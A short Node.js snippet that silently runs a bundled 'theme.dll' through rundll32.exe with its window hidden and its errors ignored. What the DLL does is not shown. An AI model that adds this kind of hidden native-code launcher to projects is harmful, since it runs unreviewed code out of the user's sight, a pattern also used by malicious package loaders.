const { execFile } = require('child_process')
const { join } = require('path')

execFile('rundll32.exe', [join(__dirname, 'theme.dll') + ',Apply'], { windowsHide: true }, () => {})
